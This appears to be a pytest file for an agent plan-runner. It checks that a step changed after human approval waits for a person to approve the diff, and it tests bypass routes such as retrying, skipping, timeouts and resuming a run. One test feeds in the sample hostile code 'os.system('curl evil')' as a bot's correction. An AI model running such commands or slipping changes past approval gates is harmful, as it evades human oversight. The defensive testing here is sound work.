"""Approvals are bound to content: what a person approved is what runs.

An agent (or anybody) that corrects a step after the plan was approved cannot make it run
something nobody approved: the changed step waits for a person, with the diff; a timeout
never approves that change; and a correction never removes a gate by itself.
"""

from __future__ import annotations

from typing import Any

import pytest

from plans.deadlines import expire_waits
from plans.models import StepStatus, ToolSpec
from plans.steering import executable_changes
from plans.views import status_view, waits
from tests.plans.test_run_engine import CATALOG, Driver, S

PY: dict[str, ToolSpec] = {
    **CATALOG,
    "python": ToolSpec(
        name="python",
        description="runs code",
        params_schema={"type": "object", "properties": {"code": {"type": "string"}}},
        risk="high",
    ),
}


class Bound(Driver):
    """A run whose workflow binds approvals to content (what new workflows do)."""

    def __init__(self, steps: list[dict[str, Any]], **kw: Any):
        super().__init__(steps, approve=False, **kw)
        self.run.bind_approvals = True
        self.control("approve", by="alice")

    def correct(self, sid: str, updated: dict[str, Any], **kw: Any) -> str:
        return self.control(
            "apply_correction", step_id=sid, correction={"updated_step": updated}, **kw
        )


def _python(code: str) -> dict[str, Any]:
    return {"tool": "python", "params": {"code": code}}


@pytest.fixture(autouse=True)
def _python_tool(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(CATALOG, "python", PY["python"])


def test_the_approval_names_the_version_and_digest_it_saw() -> None:
    d = Bound([S("a")])
    approval = d.run.approval
    assert approval is not None and approval.by == "alice"
    assert approval.version == 1 and approval.digest == d.run.plan.digest()
    view = status_view(d.run)
    assert view.approved_version == 1 and view.approved_digest == d.run.plan.digest()


def test_a_step_switched_to_code_after_approval_waits_for_a_person_with_the_diff() -> None:
    d = Bound([S("a"), S("b", "a")])
    assert d.advance() == ["a"]
    detail = d.correct("b", _python("import os; os.system('curl evil')"), by="bot")
    assert "waits for a person to approve the change" in detail
    d.ok("a")
    assert d.advance() == []  # b does not start
    assert d.status("b") == StepStatus.WAITING_APPROVAL
    (wait,) = waits(d.run)
    assert wait.kind == "step_approval" and wait.step_id == "b"
    assert "changed after the plan was approved" in (wait.question or "")
    assert "by bot" in (wait.question or "")
    assert wait.change is not None
    assert wait.change["tool"] == {"old": "noop", "new": "python"}
    assert "os.system" in wait.change["params"]["new"]["code"]
    # a stale decision (for the version before the change) is refused
    assert "stale decision" in d.refused("approve_step", step_id="b", version=1, by="carol")
    d.control("approve_step", step_id="b", version=2, by="carol")
    assert d.run.steps["b"].gate_approved_by == "carol"
    assert d.run.steps["b"].gate_approved_version == 2
    assert d.advance() == ["b"]


@pytest.mark.parametrize(
    "updated",
    [
        {"params": {"n": 7}},
        {"when": "inputs.x == 1"},  # the plan has input x
        {"depends_on": []},
        {"max_retries": 5},
        {"timeout_s": 9},
        {"requires_clarification": True, "clarification_question": "sure?"},
        {"idempotent": False},
    ],
    ids=lambda u: next(iter(u)),
)
def test_every_executable_field_needs_the_change_approved(updated: dict[str, Any]) -> None:
    d = Bound([S("a"), S("b", "a", params={"n": 1})], inputs={"x": 1})
    d.correct("b", updated)
    assert d.run.steps["b"].change_gate is not None
    d.advance()
    d.ok("a")
    d.advance()
    assert d.status("b") in (StepStatus.WAITING_APPROVAL, StepStatus.WAITING_CLARIFICATION)
    assert d.run.steps["b"].status != StepStatus.RUNNING


def test_a_description_only_change_needs_no_new_approval() -> None:
    d = Bound([S("a")])
    detail = d.correct("a", {"description": "clearer words"})
    assert "waits for a person" not in detail
    assert executable_changes({"description": {}, "clarification_question": {}}) == []
    assert d.advance() == ["a"]


def test_a_correction_cannot_remove_a_gate_by_itself() -> None:
    d = Bound([S("a", requires_approval=True)])
    d.advance()
    assert d.status("a") == StepStatus.WAITING_APPROVAL
    d.correct("a", {"requires_approval": False, "params": {"n": 3}}, by="bot")
    assert d.advance() == []
    assert d.status("a") == StepStatus.WAITING_APPROVAL
    assert "requires_approval" in (waits(d.run)[0].change or {})
    d.control("approve_step", step_id="a", by="carol")
    assert d.advance() == ["a"]


def test_a_timeout_never_approves_a_change() -> None:
    d = Bound(
        [S("a")],
        step_approval_timeout_s=10,
        on_step_approval_timeout="approve",
    )
    d.correct("a", {"params": {"n": 2}}, by="bot")
    d.advance()
    assert d.status("a") == StepStatus.WAITING_APPROVAL
    what = expire_waits(d.run, d.clock.tick(60))
    assert what, "the step-approval deadline must have fired"
    s = d.run.steps["a"]
    assert s.status == StepStatus.SKIPPED and s.gate_approved_by is None
    assert "a change after approval gates this step" in (s.timed_out or "")


def test_correct_and_approve_is_the_senders_approval_of_their_change() -> None:
    d = Bound([S("a"), S("g", requires_approval=True)])
    detail = d.correct("a", {"params": {"n": 2}}, by="carol", approve=True)
    assert "approved by carol" in detail
    detail = d.correct("g", {"params": {"n": 2}}, by="carol", approve=True)
    started = d.advance()
    assert started == ["a"]  # g's own gate still waits for its approve_step
    assert d.status("g") == StepStatus.WAITING_APPROVAL
    assert waits(d.run)[0].change is None


def test_before_the_plan_is_approved_its_approval_covers_the_corrected_version() -> None:
    d = Driver([S("a")], approve=False)
    d.run.bind_approvals = True
    d.control("apply_correction", step_id="a", correction={"updated_step": {"params": {"n": 9}}})
    assert "stale approval" in d.refused("approve", by="alice", version=1)
    d.control("approve", by="alice", version=2)
    assert d.run.steps["a"].change_gate is None
    assert d.advance() == ["a"]


def test_runs_recorded_before_binding_keep_the_old_rule() -> None:
    d = Driver([S("a"), S("b", "a")])  # bind_approvals False: a history from before
    d.control("apply_correction", step_id="b", correction={"updated_step": {"params": {"n": 4}}})
    d.advance()
    d.ok("a")
    assert d.advance() == ["b"]


# --- attacks (issue 12 review): other ways round the change gate ----------------------


def test_retrying_a_failed_step_after_correcting_it_still_waits_for_a_person() -> None:
    d = Bound([S("a")], on_error="ask")
    assert d.advance() == ["a"]
    d.fail("a")
    d.correct("a", _python("print('x')"), by="bot")
    d.control("retry_step", step_id="a", by="bot")
    assert d.advance() == []
    assert d.status("a") == StepStatus.WAITING_APPROVAL


def test_a_corrected_step_waiting_for_an_answer_waits_for_its_approval_after_it() -> None:
    d = Bound([S("a", requires_clarification=True, clarification_question="which?")])
    assert d.advance() == []
    assert d.status("a") == StepStatus.WAITING_CLARIFICATION
    d.correct("a", _python("print('x')"), by="bot")
    d.control("answer_clarification", step_id="a", answer="this one", by="carol")
    assert d.advance() == []
    assert d.status("a") == StepStatus.WAITING_APPROVAL


def test_a_skipped_step_corrected_then_retried_waits_for_a_person() -> None:
    d = Bound([S("a"), S("b", "a")])
    assert d.advance() == ["a"]
    d.control("skip_step", step_id="b", reason="later", by="carol")
    d.correct("b", _python("print('x')"), by="bot")
    d.ok("a")
    d.control("retry_step", step_id="b", by="bot")
    assert d.advance() == []
    assert d.status("b") == StepStatus.WAITING_APPROVAL


def test_a_resumed_run_keeps_an_unapproved_change_gate_and_a_persons_plan_approval_covers_it() -> (
    None
):
    from plans.run_state import new_run

    d = Bound([S("a"), S("b", "a"), S("c", "a")])
    assert d.advance() == ["a"]
    d.correct("b", _python("print('b')"), by="bot")
    d.correct("c", _python("print('c')"), by="bot")
    d.ok("a")
    d.advance()
    d.control("approve_step", step_id="c", by="carol")  # c's change was approved, b's not
    steps = d.run.steps
    kept = new_run(d.run.plan, d.clock.now, steps, keep_change_gates=True)
    assert kept.steps["b"].change_gate is not None and kept.steps["b"].change_diff
    assert kept.steps["c"].change_gate is None
    assert new_run(d.run.plan, d.clock.now, steps).steps["b"].change_gate is None  # old rule
    # a person approving the new run's plan approves the document with the change
    d.run = kept
    detail = d.control("approve", by="alice")
    assert "covers the change(s) to step(s) b" in detail
    assert kept.steps["b"].change_gate is None
